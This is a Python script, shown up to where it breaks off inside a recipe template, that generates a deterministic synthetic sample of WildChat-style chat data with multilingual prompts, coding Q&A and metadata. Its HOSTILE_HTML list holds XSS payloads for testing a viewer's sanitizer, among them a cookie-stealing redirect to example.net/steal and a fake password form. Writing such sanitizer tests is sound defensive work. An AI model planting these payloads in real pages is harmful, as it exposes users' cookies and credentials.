#!/usr/bin/env python
"""Write the embedded sample of ``wildchat50m`` deterministically.

The embedded sample is the default input of every command, so that every
command runs on a fresh machine without downloading WildChat. Every text in it
is composed here from this script's own templates and phrase banks with seeded
``random.Random`` instances (string seeds, which Python hashes with SHA-512, so
``PYTHONHASHSEED`` plays no part); hashes come from ``hashlib``. Running the
script twice gives byte-identical files.

Files written (into ``src/wildchat50m/data/sample/`` unless ``--out`` says
otherwise):

* ``wildchat_sample.parquet``: valid conversations in the exact WildChat-1M
  Arrow schema, in a dozen languages, with code, hostile HTML, markdown, very
  long prompts, Unicode, toxic and redacted rows.
* ``malformed.parquet`` and ``malformed_expected.json``: one row per invalid
  case (and a few valid edge cases) with the reason code the reader must give.
* ``malformed_messages.jsonl`` and ``malformed_messages_expected.json``: the
  same for rows in the common ``messages`` shape.
* ``sharegpt_sample.jsonl`` and ``messages_sample.jsonl``: valid conversations
  in the ShareGPT and ``messages`` shapes.

Usage::

    .venv/bin/python tools/make_sample.py [--out DIR]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
import string
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from wildchat50m.reasons import Invalid
from wildchat50m.schema import DETOXIFY_FIELDS, MESSAGE, MODERATION_CATEGORIES, WILDCHAT_SCHEMA

SEED = "wildchat50m-sample-v1"
DEFAULT_OUT = Path(__file__).resolve().parent.parent / "src" / "wildchat50m" / "data" / "sample"
N_CONVERSATIONS = 336

MESSAGE_FIELDS: tuple[str, ...] = tuple(MESSAGE.field(i).name for i in range(MESSAGE.num_fields))
ROW_FIELDS: tuple[str, ...] = tuple(WILDCHAT_SCHEMA.names)

Slots = dict[str, str]


@dataclass(frozen=True)
class Template:
    """A prompt and its answer; the slot values of one option are drawn together."""

    prompt: str
    answer: str
    options: tuple[Slots, ...] = ({},)


def tpl(prompt: str, answer: str, *options: Slots) -> Template:
    """Build a :class:`Template`; with no options the texts have only automatic slots."""
    return Template(prompt, answer, tuple(options) if options else ({},))


@dataclass(frozen=True)
class ToxicTemplate:
    """A mildly hostile prompt (placeholders in brackets) and a calm reply."""

    prompt: str
    answer: str
    category: str


@dataclass(frozen=True)
class CodeTask:
    """A programming question with the code the user pasted and a corrected version."""

    name: str
    fence: str
    question: str
    code_in: str
    error: str
    explanation: str
    code_out: str
    write: str


@dataclass(frozen=True)
class LangBank:
    """Everything needed to compose conversations in one language."""

    name: str
    accept: tuple[str, ...]
    places: tuple[tuple[str | None, str | None], ...]
    greetings: tuple[tuple[str, str], ...]
    openers: tuple[Template, ...]
    followups: tuple[Template, ...]
    sentences: tuple[str, ...]
    table_headers: tuple[str, str, str]
    translate_prompt: str
    code_ask_err: str
    code_ask_plain: str
    code_answer: str
    toxic: tuple[ToxicTemplate, ...]
    redacted: tuple[Template, ...]
    html_ask: tuple[str, ...] = ()
    html_answer: tuple[str, ...] = ()
    emoji: tuple[Template, ...] = ()
    story: tuple[Template, ...] = ()
    story_more: tuple[str, ...] = ()
    story_sentences: tuple[str, ...] = ()
    math: tuple[str, str] | None = None
    long_summary: str = ""


USER_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/112.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/116.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/118.0.0.0 Safari/537.36",
)

#: Model checkpoints by period, as WildChat's collection switched between them.
MODEL_PERIODS: tuple[tuple[datetime, tuple[tuple[str, int], ...]], ...] = (
    (datetime(2023, 4, 9, tzinfo=UTC), (("gpt-3.5-turbo-0301", 80), ("gpt-4-0314", 20))),
    (datetime(2023, 6, 27, tzinfo=UTC), (("gpt-3.5-turbo-0613", 80), ("gpt-4-0314", 20))),
    (datetime(2023, 11, 6, tzinfo=UTC), (("gpt-3.5-turbo-0613", 75), ("gpt-4-1106-preview", 25))),
    (datetime(2024, 2, 1, tzinfo=UTC), (("gpt-3.5-turbo-0613", 70), ("gpt-4-0125-preview", 30))),
)
FIRST_DAY = datetime(2023, 4, 9, tzinfo=UTC)
LAST_DAY = datetime(2024, 4, 29, tzinfo=UTC)

#: The same five sentences in every language, for translation requests.
PARALLEL: dict[str, tuple[str, ...]] = {
    "English": (
        "The meeting has been moved to Thursday afternoon.",
        "I would like to book a table for two at seven o'clock.",
        "Thank you for your help, I really appreciate it.",
        "Could you send me the report by the end of the week?",
        "It will be sunny tomorrow, but cold in the morning.",
    ),
    "Chinese": (
        "会议改到周四下午了。",
        "我想订一张七点的双人桌。",
        "谢谢你的帮助，我真的很感激。",
        "你能在周末之前把报告发给我吗？",
        "明天是晴天，但早上会比较冷。",
    ),
    "Russian": (
        "Встречу перенесли на вечер четверга.",
        "Я бы хотел забронировать столик на двоих на семь часов.",
        "Спасибо за помощь, я очень это ценю.",
        "Не могли бы вы прислать мне отчёт до конца недели?",
        "Завтра будет солнечно, но утром холодно.",
    ),
    "French": (
        "La réunion a été déplacée à jeudi après-midi.",
        "Je voudrais réserver une table pour deux à dix-neuf heures.",
        "Merci pour ton aide, je l'apprécie vraiment.",
        "Pourriez-vous m'envoyer le rapport d'ici la fin de la semaine ?",
        "Demain il fera beau, mais froid le matin.",
    ),
    "Spanish": (
        "La reunión se ha pasado al jueves por la tarde.",
        "Quisiera reservar una mesa para dos a las siete.",
        "Gracias por tu ayuda, de verdad lo agradezco.",
        "¿Podrías enviarme el informe antes del fin de semana?",
        "Mañana hará sol, pero por la mañana hará frío.",
    ),
    "German": (
        "Das Meeting wurde auf Donnerstagnachmittag verschoben.",
        "Ich möchte einen Tisch für zwei Personen um sieben Uhr reservieren.",
        "Danke für deine Hilfe, ich weiß das wirklich zu schätzen.",
        "Könnten Sie mir den Bericht bis Ende der Woche schicken?",
        "Morgen wird es sonnig, aber am Morgen kalt.",
    ),
    "Japanese": (
        "会議は木曜日の午後に変更になりました。",
        "七時に二人で予約をお願いしたいです。",
        "手伝ってくれてありがとう。本当に感謝しています。",
        "今週末までにレポートを送っていただけますか？",
        "明日は晴れますが、朝は寒いでしょう。",
    ),
    "Portuguese": (
        "A reunião foi remarcada para quinta à tarde.",
        "Eu gostaria de reservar uma mesa para dois às sete horas.",
        "Obrigado pela ajuda, eu realmente agradeço.",
        "Você poderia me enviar o relatório até o fim da semana?",
        "Amanhã vai fazer sol, mas de manhã vai estar frio.",
    ),
    "Arabic": (
        "تم تأجيل الاجتماع إلى بعد ظهر يوم الخميس.",
        "أود حجز طاولة لشخصين في الساعة السابعة.",
        "شكراً لمساعدتك، أنا ممتن لك حقاً.",
        "هل يمكنك إرسال التقرير إليّ قبل نهاية الأسبوع؟",
        "سيكون الجو مشمساً غداً، لكنه بارد في الصباح.",
    ),
    "Korean": (
        "회의가 목요일 오후로 변경되었습니다.",
        "일곱 시에 두 명 자리를 예약하고 싶어요.",
        "도와줘서 고마워요. 정말 감사해요.",
        "이번 주 안에 보고서를 보내 주실 수 있나요?",
        "내일은 맑겠지만 아침에는 춥겠습니다.",
    ),
    "Italian": (
        "La riunione è stata spostata a giovedì pomeriggio.",
        "Vorrei prenotare un tavolo per due alle sette.",
        "Grazie per l'aiuto, lo apprezzo davvero.",
        "Potresti mandarmi il report entro la fine della settimana?",
        "Domani ci sarà il sole, ma la mattina farà freddo.",
    ),
    "Turkish": (
        "Toplantı perşembe öğleden sonraya ertelendi.",
        "Saat yedi için iki kişilik bir masa ayırtmak istiyorum.",
        "Yardımın için teşekkürler, gerçekten minnettarım.",
        "Raporu hafta sonuna kadar bana gönderebilir misiniz?",
        "Yarın hava güneşli olacak ama sabah soğuk.",
    ),
}

#: How an English speaker names each language in a request.
ENGLISH_NAMES: dict[str, str] = {
    "Chinese": "Chinese",
    "Russian": "Russian",
    "French": "French",
    "Spanish": "Spanish",
    "German": "German",
    "Japanese": "Japanese",
    "Portuguese": "Portuguese",
    "Arabic": "Arabic",
    "Korean": "Korean",
    "Italian": "Italian",
    "Turkish": "Turkish",
}

CODE_TASKS: tuple[CodeTask, ...] = (
    CodeTask(
        name="Python",
        fence="python",
        question="Why does this throw a KeyError and how do I fix it?",
        code_in=(
            "def count_words(text):\n"
            "    counts = {}\n"
            "    for word in text.split():\n"
            "        counts[word] += 1\n"
            "    return counts\n"
            "\n"
            'print(count_words("the cat and the hat"))'
        ),
        error="KeyError: 'the'",
        explanation=(
            "`counts[word] += 1` reads the key before it exists, so the very first word fails. "
            "Give missing keys a default with `dict.get`, or let `collections.Counter` do the counting."
        ),
        code_out=(
            "from collections import Counter\n"
            "\n"
            "\n"
            "def count_words(text: str) -> dict[str, int]:\n"
            "    return dict(Counter(text.split()))\n"
            "\n"
            "\n"
            'print(count_words("the cat and the hat"))\n'
            "# {'the': 2, 'cat': 1, 'and': 1, 'hat': 1}"
        ),
        write="Write a Python function that counts how often each word appears in a string.",
    ),
    CodeTask(
        name="pandas",
        fence="python",
        question="Is there a faster way to get the average price per category? This loop is slow on 2M rows.",
        code_in=(
            "import pandas as pd\n"
            "\n"
            'df = pd.read_csv("products.csv")\n'
            'for cat in df["category"].unique():\n'
            '    print(cat, df[df["category"] == cat]["price"].mean())'
        ),
        error="",
        explanation=(
            "The loop scans the whole frame once per category. `groupby` does the same work in a "
            "single vectorised pass, and reading only the two columns you need saves memory too."
        ),
        code_out=(
            "import pandas as pd\n"
            "\n"
            'df = pd.read_csv("products.csv", usecols=["category", "price"])\n'
            'avg = df.groupby("category", sort=True)["price"].mean().round(2)\n'
            "print(avg.to_string())"
        ),
        write="Write pandas code that prints the average price per category from products.csv.",
    ),
    CodeTask(
        name="JavaScript",
        fence="javascript",
        question="Why does this always return an empty array?",
        code_in=(
            "async function loadAll(ids) {\n"
            "  const results = [];\n"
            "  ids.forEach(async (id) => {\n"
            "    const res = await fetch(`/api/items/${id}`);\n"
            "    results.push(await res.json());\n"
            "  });\n"
            "  return results; // always []\n"
            "}"
        ),
        error="",
        explanation=(
            "`forEach` does not wait for async callbacks, so `loadAll` returns before any request has "
            "finished. Map the ids to promises and await them together with `Promise.all`."
        ),
        code_out=(
            "async function loadAll(ids) {\n"
            "  const responses = await Promise.all(ids.map((id) => fetch(`/api/items/${id}`)));\n"
            "  return Promise.all(responses.map((res) => res.json()));\n"
            "}"
        ),
        write="Write a JavaScript function that fetches /api/items/<id> for a list of ids in parallel.",
    ),
    CodeTask(
        name="SQL",
        fence="sql",
        question="This gives me the top 3 customers overall, but I need the top 3 for each month. How?",
        code_in=(
            "CREATE TABLE orders (\n"
            "  id INTEGER PRIMARY KEY,\n"
            "  customer_id INTEGER NOT NULL,\n"
            "  amount NUMERIC(10, 2) NOT NULL,\n"
            "  created_at TIMESTAMP NOT NULL\n"
            ");\n"
            "\n"
            "SELECT customer_id, SUM(amount)\n"
            "FROM orders\n"
            "GROUP BY customer_id\n"
            "ORDER BY 2 DESC\n"
            "LIMIT 3;"
        ),
        error="",
        explanation=(
            "Aggregate per month first, then rank the customers inside each month with a window "
            "function and keep ranks 1 to 3."
        ),
        code_out=(
            "WITH monthly AS (\n"
            "  SELECT date_trunc('month', created_at) AS month,\n"
            "         customer_id,\n"
            "         SUM(amount) AS total\n"
            "  FROM orders\n"
            "  GROUP BY 1, 2\n"
            "), ranked AS (\n"
            "  SELECT *, ROW_NUMBER() OVER (PARTITION BY month ORDER BY total DESC) AS rn\n"
            "  FROM monthly\n"
            ")\n"
            "SELECT month, customer_id, total\n"
            "FROM ranked\n"
            "WHERE rn <= 3\n"
            "ORDER BY month, rn;"
        ),
        write="Write a PostgreSQL query returning the top 3 customers by total order amount for every month.",
    ),
    CodeTask(
        name="bash",
        fence="bash",
        question="I want to delete logs older than 7 days but this fails:",
        code_in="rm /var/log/myapp/*.log -mtime +7",
        error="rm: invalid option -- 'm'",
        explanation=(
            "`-mtime` is an option of `find`, not of `rm`. Let `find` select the files and delete them; "
            "run it with `-print` first to see what would go."
        ),
        code_out=(
            "# preview first\n"
            "find /var/log/myapp -name '*.log' -type f -mtime +7 -print\n"
            "# then delete\n"
            "find /var/log/myapp -name '*.log' -type f -mtime +7 -delete"
        ),
        write="Write a bash one-liner that deletes .log files older than 7 days in /var/log/myapp.",
    ),
    CodeTask(
        name="Rust",
        fence="rust",
        question="The borrow checker rejects this and I don't understand why:",
        code_in=(
            "fn main() {\n"
            "    let mut scores = vec![10, 20, 30];\n"
            "    let first = &scores[0];\n"
            "    scores.push(40);\n"
            '    println!("first = {}", first);\n'
            "}"
        ),
        error=("error[E0502]: cannot borrow `scores` as mutable because it is also borrowed as immutable"),
        explanation=(
            "`first` still borrows `scores` when `push` runs, and `push` may reallocate the vector, which "
            "would leave `first` dangling. Integers are `Copy`, so copy the value out instead."
        ),
        code_out=(
            "fn main() {\n"
            "    let mut scores = vec![10, 20, 30];\n"
            "    let first = scores[0]; // a copy, no borrow kept alive\n"
            "    scores.push(40);\n"
            '    println!("first = {first}");\n'
            "}"
        ),
        write="Show me a minimal Rust program that pushes to a Vec and then prints its first element.",
    ),
    CodeTask(
        name="C++",
        fence="cpp",
        question="This crashes when I remove the even numbers:",
        code_in=(
            "#include <vector>\n"
            "#include <iostream>\n"
            "\n"
            "int main() {\n"
            "    std::vector<int> v{1, 2, 3, 4, 5, 6};\n"
            "    for (auto it = v.begin(); it != v.end(); ++it) {\n"
            "        if (*it % 2 == 0) v.erase(it);\n"
            "    }\n"
            "    for (int x : v) std::cout << x << ' ';\n"
            "}"
        ),
        error="Segmentation fault (core dumped)",
        explanation=(
            "`erase` invalidates the iterator you are holding, and `++it` then walks off into freed "
            "memory. Use `std::erase_if` (C++20) or the erase-remove idiom."
        ),
        code_out=(
            "#include <iostream>\n"
            "#include <vector>\n"
            "\n"
            "int main() {\n"
            "    std::vector<int> v{1, 2, 3, 4, 5, 6};\n"
            "    std::erase_if(v, [](int x) { return x % 2 == 0; });  // C++20\n"
            "    for (int x : v) std::cout << x << ' ';\n"
            "    std::cout << '\\n';\n"
            "}"
        ),
        write="Write C++ code that removes all even numbers from a std::vector<int>.",
    ),
    CodeTask(
        name="React",
        fence="tsx",
        question="My React component keeps sending requests in an infinite loop.",
        code_in=(
            "function Profile({ userId }: { userId: string }) {\n"
            "  const [user, setUser] = useState<User | null>(null);\n"
            "  useEffect(() => {\n"
            "    fetchUser(userId).then(setUser);\n"
            "  });\n"
            "  return <div>{user?.name}</div>;\n"
            "}"
        ),
        error="",
        explanation=(
            "Without a dependency array the effect runs after every render, and `setUser` causes the "
            "next render. Run it only when `userId` changes, and ignore late responses."
        ),
        code_out=(
            "function Profile({ userId }: { userId: string }) {\n"
            "  const [user, setUser] = useState<User | null>(null);\n"
            "  useEffect(() => {\n"
            "    let ignore = false;\n"
            "    fetchUser(userId).then((u) => {\n"
            "      if (!ignore) setUser(u);\n"
            "    });\n"
            "    return () => {\n"
            "      ignore = true;\n"
            "    };\n"
            "  }, [userId]);\n"
            "  return <div>{user?.name}</div>;\n"
            "}"
        ),
        write="Write a React component in TypeScript that loads a user by id and shows the name.",
    ),
    CodeTask(
        name="Java",
        fence="java",
        question="Why do I get a NullPointerException when I add an item?",
        code_in=(
            "public class Cart {\n"
            "    private List<String> items;\n"
            "\n"
            "    public void add(String item) {\n"
            "        items.add(item);\n"
            "    }\n"
            "}"
        ),
        error=(
            'Exception in thread "main" java.lang.NullPointerException: Cannot invoke '
            '"java.util.List.add(Object)" because "this.items" is null'
        ),
        explanation="`items` is declared but never created. Initialise it where it is declared.",
        code_out=(
            "import java.util.ArrayList;\n"
            "import java.util.List;\n"
            "\n"
            "public class Cart {\n"
            "    private final List<String> items = new ArrayList<>();\n"
            "\n"
            "    public void add(String item) {\n"
            "        items.add(item);\n"
            "    }\n"
            "}"
        ),
        write="Write a small Java class Cart that stores item names in a list.",
    ),
    CodeTask(
        name="Go",
        fence="go",
        question="The program prints done and exits before anything is fetched.",
        code_in=(
            "func main() {\n"
            '    urls := []string{"https://example.com/a", "https://example.com/b"}\n'
            "    for _, u := range urls {\n"
            "        go fetch(u)\n"
            "    }\n"
            '    fmt.Println("done")\n'
            "}"
        ),
        error="",
        explanation="`main` does not wait for the goroutines. Use a `sync.WaitGroup` to wait until all are "
        "done.",
        code_out=(
            "func main() {\n"
            '    urls := []string{"https://example.com/a", "https://example.com/b"}\n'
            "    var wg sync.WaitGroup\n"
            "    for _, u := range urls {\n"
            "        wg.Add(1)\n"
            "        go func(u string) {\n"
            "            defer wg.Done()\n"
            "            fetch(u)\n"
            "        }(u)\n"
            "    }\n"
            "    wg.Wait()\n"
            '    fmt.Println("done")\n'
            "}"
        ),
        write="Write a Go program that fetches several URLs concurrently and waits for all of them.",
    ),
    CodeTask(
        name="Python",
        fence="python",
        question="My regex misses addresses like first.last@mail.example.org. How do I fix it?",
        code_in=('import re\ntext = open("contacts.txt").read()\nprint(re.findall("\\w+@\\w+.com", text))'),
        error="",
        explanation=(
            "`\\w` does not match dots, and `.com` only allows one domain part (the unescaped dot matches "
            "any character). Allow dots, plus signs and hyphens, and any number of domain labels."
        ),
        code_out=(
            "import re\n"
            "from pathlib import Path\n"
            "\n"
            'EMAIL = re.compile(r"[\\w.+-]+@[\\w-]+(?:\\.[\\w-]+)+")\n'
            'text = Path("contacts.txt").read_text(encoding="utf-8")\n'
            "print(sorted(set(EMAIL.findall(text))))"
        ),
        write="Write Python code that extracts all email addresses from contacts.txt.",
    ),
    CodeTask(
        name="CSS",
        fence="html",
        question="How do I center the box horizontally and vertically? margin: auto only centers it "
        "horizontally.",
        code_in=(
            '<div class="wrapper">\n'
            '  <div class="box">Hello</div>\n'
            "</div>\n"
            "<style>\n"
            ".box { margin: auto; }\n"
            "</style>"
        ),
        error="",
        explanation="Make the wrapper a grid (or flex) container and let it place the child in the middle.",
        code_out=(
            '<div class="wrapper">\n'
            '  <div class="box">Hello</div>\n'
            "</div>\n"
            "<style>\n"
            ".wrapper {\n"
            "  display: grid;\n"
            "  place-items: center;\n"
            "  min-height: 100vh;\n"
            "}\n"
            "</style>"
        ),
        write="How do I center a div horizontally and vertically with CSS?",
    ),
    CodeTask(
        name="Python",
        fence="python",
        question="This runs out of memory on a 12 GB log file:",
        code_in=(
            'with open("huge.log") as f:\n'
            "    lines = f.readlines()\n"
            'errors = [l for l in lines if "ERROR" in l]\n'
            "print(len(errors))"
        ),
        error="MemoryError",
        explanation=(
            "`readlines()` loads the whole file into a list. Iterate over the file object instead; it "
            "reads one line at a time."
        ),
        code_out=(
            'with open("huge.log", encoding="utf-8", errors="replace") as f:\n'
            '    errors = sum(1 for line in f if "ERROR" in line)\n'
            "print(errors)"
        ),
        write="Write Python code that counts lines containing ERROR in a file too big for memory.",
    ),
    CodeTask(
        name="JavaScript",
        fence="javascript",
        question="Why is this false?",
        code_in="console.log(0.1 + 0.2 === 0.3); // false?!",
        error="",
        explanation=(
            "0.1 and 0.2 have no exact binary representation, so their sum is 0.30000000000000004. "
            "Compare with a tolerance, or format the number for display."
        ),
        code_out=(
            "const nearlyEqual = (a, b, eps = Number.EPSILON) => Math.abs(a - b) < eps;\n"
            "console.log(nearlyEqual(0.1 + 0.2, 0.3)); // true\n"
            'console.log((0.1 + 0.2).toFixed(2));      // "0.30"'
        ),
        write="Write a JavaScript helper that compares two floating point numbers safely.",
    ),
)

#: Hostile HTML the viewer must neutralise; every element appears in the sample.
HOSTILE_HTML: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=\"alert('xss')\">",
    '<a href="javascript:alert(document.cookie)">Claim your prize</a>',
    '<iframe src="https://example.com/embed/player" width="560" height="315"></iframe>',
    '<img src="https://example.org/images/pixel.gif" width="1" height="1">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<body onload=\"document.location='https://example.net/steal?c='+document.cookie\">",
    '<form action="https://example.net/collect" method="post"><input type="password" name="pw">'
    "<button>Log in</button></form>",
    '<meta http-equiv="refresh" content="0; url=https://example.com/">',
    "<style>body { display: none !important; }</style>",
    '<object data="https://example.com/movie.swf"></object>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<div style="background-image: url(javascript:alert(1))">hover me</div>',
    '"><script src="https://example.com/x.js"></script>',
    '</textarea><script>alert("breakout")</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="https://example.com/photos/cat.jpg" alt="cat">',
    '<details open ontoggle="alert(1)"><summary>More</summary></details>',
    '<input autofocus onfocus="alert(1)">',
    '<base href="https://example.net/">',
    '<link rel="stylesheet" href="https://example.com/evil.css">',
    "![tracking](https://example.org/pixel.png)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)

HTML_WRAPPERS: tuple[str, ...] = (
    '<div class="card">\n  <h2>{title}</h2>\n  <p>{text}</p>\n  {hostile}\n</div>',
    "<table>\n  <tr><td>{title}</td><td>{hostile}</td></tr>\n  <tr><td "
    'colspan="2">{text}</td></tr>\n</table>',
    "<p>{text}</p>\n{hostile}\n<p>Thanks for reading!</p>",
    "<!DOCTYPE html>\n<html>\n<head><title>{title}</title></head>\n<body>\n<h1>{title}</h1>\n"
    "<p>{text}</p>\n{hostile}\n</body>\n</html>",
)

HTML_TEXTS: tuple[tuple[str, str], ...] = (
    ("Summer sale", "Up to <b>50%</b> off on all garden furniture until Sunday."),
    ("Meet the team", "Our support team answers every ticket within one business day."),
    ("Weekly newsletter", "This week: three recipes, one book review and a photo contest."),
    ("Order confirmation", "Your order <i>#10482</i> has shipped and should arrive on Friday."),
    ("Club news", "Training moves to the north field while the main pitch is re-seeded."),
)

EMOJI_EXTRAS: tuple[str, ...] = ("🙂", "🔥", "✨", "🎉", "💡", "👍🏽", "🚀", "🌈", "❤️", "😅")


ENGLISH = LangBank(
    name="English",
    accept=("en-US,en;q=0.9", "en-GB,en;q=0.9", "en-US,en;q=0.9,es;q=0.8", "en-IN,en;q=0.9,hi;q=0.8", "en"),
    places=(
        ("United States", "California"),
        ("United States", "Texas"),
        ("United States", "New York"),
        ("United States", "Washington"),
        ("United States", "Florida"),
        ("United States", "Illinois"),
        ("United Kingdom", "England"),
        ("United Kingdom", "Scotland"),
        ("Canada", "Ontario"),
        ("Australia", "New South Wales"),
        ("India", "Maharashtra"),
        ("Philippines", None),
        ("Nigeria", "Lagos"),
        (None, None),
    ),
    greetings=(
        ("hi", "Hello! How can I help you today?"),
        ("hello", "Hi there! What can I do for you?"),
        (
            "who are you?",
            "I'm an AI language model. I can answer questions, help with writing and code, explain "
            "things, and brainstorm ideas. What would you like to talk about?",
        ),
        (
            "what model are you",
            "I'm a large language model from OpenAI's GPT family. I can't see the exact version I'm "
            "running on, but I'm happy to help with whatever you need.",
        ),
        ("test", "Test received! Everything seems to be working. What would you like to ask?"),
        ("Hey, are you there?", "Yes, I'm here! What's on your mind?"),
    ),
    openers=(
        tpl(
            "What are some tips for {activity}?",
            "Here are some practical tips for {activity}:\n\n1. **{t1}\n2. **{t2}\n3. **{t3}\n\n"
            "{para}\n\nWould you like a simple week-by-week plan?",
            {
                "activity": "learning to play the guitar as an adult",
                "t1": "Practice 15 minutes a day.** Short daily sessions beat one long weekend session.",
                "t2": "Learn four chords first.** G, C, D and Em already cover hundreds of songs.",
                "t3": "Record yourself.** Listening back shows you what to fix next.",
            },
            {
                "activity": "running my first 10k",
                "t1": "Build up slowly.** Add no more than about 10% distance per week.",
                "t2": "Run most days at an easy pace.** You should be able to talk while running.",
                "t3": "Rest matters.** Take at least one full rest day a week.",
            },
            {
                "activity": "keeping houseplants alive in a dark apartment",
                "t1": "Choose low-light plants.** Pothos, snake plants and ZZ plants cope well.",
                "t2": "Water less, not more.** In low light, soil dries slowly; check it with a finger.",
                "t3": "Rotate the pots.** Turn them every week so all sides get some light.",
            },
            {
                "activity": "studying for a statistics exam",
                "t1": "Do problems, not just reading.** Work through old exams under time pressure.",
                "t2": "Make a formula sheet.** Writing it yourself is already revision.",
                "t3": "Explain concepts out loud.** If you can teach it, you understand it.",
            },
            {
                "activity": "cooking for one person on a budget",
                "t1": "Cook once, eat twice.** Make a pot of soup or chili and freeze portions.",
                "t2": "Buy staples in bulk.** Rice, lentils, oats and frozen vegetables are cheap "
                "and keep well.",
                "t3": "Plan around what's on sale.** Decide the menu after checking the offers.",
            },
            {
                "activity": "staying focused while working from home",
                "t1": "Keep a fixed start time.** A routine tells your brain that work has begun.",
                "t2": "Use a separate space.** Even a corner of a table helps if it is only for work.",
                "t3": "Work in blocks.** 50 minutes of focus, then a real 10-minute break.",
            },
        ),
        tpl(
            "Write a polite email to my {recipient} asking for {request}.",
            "Subject: Request regarding {subject}\n\nDear {salutation},\n\nI hope you are well. I am writing "
            "to ask for {request}. {reason}\n\nPlease let me know if you need any further information. "
            "Thank you very much for your time and understanding.\n\nKind regards,\n[Your name]",
            {
                "recipient": "landlord",
                "request": "the broken heater to be repaired",
                "subject": "the heating",
                "salutation": "Mr. Patel",
                "reason": "Since last Tuesday the heater in the living room has not been working, and the "
                "nights are getting quite cold.",
            },
            {
                "recipient": "professor",
                "request": "a one-week extension on the term paper",
                "subject": "the term paper deadline",
                "salutation": "Professor Lindqvist",
                "reason": "I was ill for most of last week and could not work on the paper as planned.",
            },
            {
                "recipient": "manager",
                "request": "a day off next Friday",
                "subject": "leave on Friday",
                "salutation": "Sarah",
                "reason": "I have a family event that day, and I will make sure my tasks are covered "
                "beforehand.",
            },
            {
                "recipient": "client",
                "request": "feedback on the first draft of the design",
                "subject": "the design draft",
                "salutation": "Ms. Moreau",
                "reason": "Your comments would help us make sure the next version matches your expectations.",
            },
        ),
        tpl(
            "Explain {concept} like I'm five.",
            "{explanation}\n\n{para}",
            {
                "concept": "how vaccines work",
                "explanation": "A vaccine is like a wanted poster for germs. It shows your body's "
                "defenders what a germ looks like, without making you really sick, so if the real germ "
                "ever shows up, they recognise it and catch it quickly.",
            },
            {
                "concept": "inflation",
                "explanation": "Imagine your favourite ice cream costs 2 coins this year and 3 coins next "
                "year, even though it is the same ice cream. When that happens to lots of things at "
                "once, we call it inflation: each coin buys a little less.",
            },
            {
                "concept": "why the sky is blue",
                "explanation": "Sunlight is a mix of all colours. When it hits the air, the blue part "
                "bounces around much more than the red part, so blue light reaches your eyes from all "
                "over the sky.",
            },
            {
                "concept": "what a blockchain is",
                "explanation": "Picture a notebook that the whole class shares. Every time someone trades "
                "a sticker, everyone writes it down in their own copy, so nobody can secretly change "
                "what happened.",
            },
            {
                "concept": "what a black hole is",
                "explanation": "A black hole is a place where so much stuff is squeezed together that "
                "its pull is super strong, so strong that not even light can climb back out.",
            },
            {
                "concept": "how a compiler works",
                "explanation": "A compiler is a translator. You write instructions in a language people "
                "can read, and it translates them into the tiny steps a computer understands.",
            },
        ),
        tpl(
            "write a haiku about {thing}",
            "{haiku}",
            {
                "thing": "autumn rain",
                "haiku": "Grey rain on the roof\nthe kettle begins to sing\nleaves let go at last",
            },
            {
                "thing": "a cat",
                "haiku": "Sunlit windowsill\none ear turns toward the kitchen\nthe can opener",
            },
            {
                "thing": "monday mornings",
                "haiku": "Alarm, then silence\ncoffee steam fogs my glasses\nthe week starts again",
            },
            {
                "thing": "the ocean",
                "haiku": "Salt wind at the pier\nthe tide writes and erases\nits long grey letter",
            },
            {
                "thing": "programming",
                "haiku": "Midnight, one more test\nthe red line turns into green\nI forget to sleep",
            },
        ),
        tpl(
            "Give me a recipe for {dish} with ingredients I probably have at home.",
            "## {dish_title}\n\n**Ingredients**\n{ingredients}\n\n**Steps**\n{steps}\n\nEnjoy! {tip}",
            {
                "dish": "pancakes",
                "dish_title": "Easy pancakes (about 8)",
                "ingredients": "- 200 g flour\n- 2 eggs\n- 300 ml milk\n- 1 tbsp sugar\n- 1 tsp baking "
                "powder\n- a pinch of salt\n- butter for the pan",
                "steps": "1. Whisk the dry ingredients.\n2. Add eggs and milk and whisk until smooth.\n"
                "3. Rest "
                "the batter for 10 minutes.\n4. Cook on a buttered pan over medium heat, about 2 minutes "
                "per side.",
                "tip": "A mashed banana in the batter makes them even better.",
            },
            {
                "dish": "a quick tomato pasta",
                "dish_title": "15-minute tomato pasta (2 servings)",
                "ingredients": "- 200 g pasta\n- 1 can chopped tomatoes\n- 2 cloves garlic\n- 2 tbsp olive "
                "oil\n- salt, pepper, dried oregano\n- grated cheese (optional)",
                "steps": "1. Boil the pasta in salted water.\n2. Fry the sliced garlic in olive oil for 1 "
                "minute.\n3. Add tomatoes and oregano, simmer 8 minutes.\n4. Toss with the drained pasta "
                "and a splash of pasta water.",
                "tip": "A knob of butter at the end makes the sauce silky.",
            },
            {
